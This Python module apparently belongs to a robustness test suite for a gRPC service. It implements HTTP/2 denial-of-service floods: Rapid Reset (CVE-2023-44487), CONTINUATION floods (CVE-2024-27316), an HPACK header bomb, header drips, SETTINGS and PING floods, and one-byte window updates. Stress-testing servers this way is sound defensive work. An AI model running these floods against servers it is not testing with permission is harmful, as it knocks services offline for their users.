# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2 frames. Each stops when the peer ends the connection, as it should."""

import struct
import time

import http2
from http2 import (ACK, CANCEL, CONTINUATION, END_HEADERS, FRAME_BYTES_MAX, HEADERS, PING,
                   RST_STREAM, SETTINGS, WINDOW_UPDATE, frame)

PATH = "/viewloom.v1.CatalogService/GetServerInfo"
WATCH_PATH = "/viewloom.v1.DisplayService/StreamAtlases"
PART = 100  # frames of one write


def rapid_reset(address, budget):
    """Calls that are opened and reset at once (CVE-2023-44487)."""
    is_over = budget.deadline()
    left = budget.count(6_000, 30_000)
    while left > 0 and not is_over():
        with http2.Connection(address) as connection:
            headers = http2.call_headers(PATH, scheme=connection.scheme)
            stream = 1
            while left > 0 and not is_over():
                part = b""
                for _ in range(PART):
                    part += frame(HEADERS, END_HEADERS, stream, headers)
                    part += frame(RST_STREAM, 0, stream, struct.pack("!I", CANCEL))
                    stream += 2
                left -= PART
                if not connection.send(part):
                    break


def continuation(address, budget):
    """Headers without an end (CVE-2024-27316)."""
    is_over = budget.deadline()
    filler = b"".join(http2.literal(f"x-{i:04}", "y" * 100) for i in range(150))
    left = budget.count(4 << 20, 46 << 20)
    while left > 0 and not is_over():
        with http2.Connection(address) as connection:
            connection.send(frame(HEADERS, 0, 1, http2.call_headers(PATH)))
            while left > 0 and not is_over() and connection.send(
                    frame(CONTINUATION, 0, 1, filler)):
                left -= len(filler)


def header_drip(address, budget):
    """Headers in pieces of a few bytes, each a frame, that fill the table of the peer."""
    is_over = budget.deadline()
    left = budget.count(400 << 10, 4 << 20)
    while left > 0 and not is_over():
        with http2.Connection(address) as connection:
            connection.send(frame(HEADERS, 0, 1, http2.call_headers(PATH)))
            number = 0
            while left > 0 and not is_over():
                part = b""
                for _ in range(PART):
                    number += 1
                    header = http2.literal(f"a{number}", "b", is_kept=True)
                    part += frame(CONTINUATION, 0, 1, header)
                left -= len(part)
                if not connection.send(part):
                    break


def header_bomb(address, budget):
    """A long header that the peer keeps, named again and again by one byte."""
    is_over = budget.deadline()
    for _ in range(budget.count(8, 40)):
        if is_over():
            return
        with http2.Connection(address) as connection:
            block = http2.call_headers(PATH) + http2.literal("x", "y" * 4000, is_kept=True)
            block += b"\xbe" * (FRAME_BYTES_MAX - len(block))
            connection.send(frame(HEADERS, END_HEADERS, 1, block))
            connection.read()


def settings(address, budget):
    """Settings, each to be confirmed, of which no confirmation is read."""
    flood(address, budget, frame(SETTINGS, 0, 0), budget.count(20_000, 200_000))


def ping(address, budget):
    """Pings, each to be answered."""
    flood(address, budget, frame(PING, 0, 0, b"12345678"), budget.count(20_000, 200_000))


def flood(address, budget, one, left):
    is_over = budget.deadline()
    while left > 0 and not is_over():
        with http2.Connection(address) as connection:
            while left > 0 and not is_over() and connection.send(one * PART):
                left -= PART


def tiny_windows(address, budget):
    """A viewer that takes its pictures byte by byte."""
    from viewloom.v1 import display_service_pb2  # takes a while: only where it is needed
    from healthy_pair import QUILT
    from google.protobuf.json_format import ParseDict
    request = display_service_pb2.StreamAtlasesRequest()
    request.open.stream = "healthy"
    ParseDict(QUILT, request.open.display)
    message = request.SerializeToString()
    is_over = budget.deadline()
    window = struct.pack("!HI", http2.INITIAL_WINDOW_SIZE, 1)
    with http2.Connection(address, window) as connection:
        connection.socket.settimeout(0.05)
        connection.send(frame(SETTINGS, ACK, 0))
        headers = http2.call_headers(WATCH_PATH, scheme=connection.scheme)
        connection.send(frame(HEADERS, END_HEADERS, 1, headers) +
                        frame(http2.DATA, 0, 1,
                              b"\0" + struct.pack("!I", len(message)) + message))
        one = b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", 1)) for stream in (0, 1))
        while not is_over() and connection.send(one * PART):
            connection.read()
            time.sleep(0.002)


ATTACKS = (rapid_reset, continuation, header_drip, header_bomb, settings, ping, tiny_windows)
